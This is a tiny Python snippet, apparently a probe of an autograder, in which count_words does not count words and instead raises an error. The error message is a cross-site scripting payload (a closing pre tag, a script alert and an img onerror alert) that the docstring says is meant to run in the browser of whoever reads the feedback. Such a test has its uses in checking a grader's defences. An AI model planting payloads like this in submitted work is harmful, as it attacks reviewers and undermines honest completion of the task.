"""Raises a text that would run in the browser of whoever reads the feedback.

task 1: 0, failed
task 2: 2, passed
told: <script>alert
"""


def count_words(text):
    raise ValueError("</pre><script>alert(1)</script><img src=x onerror=alert(2)>")
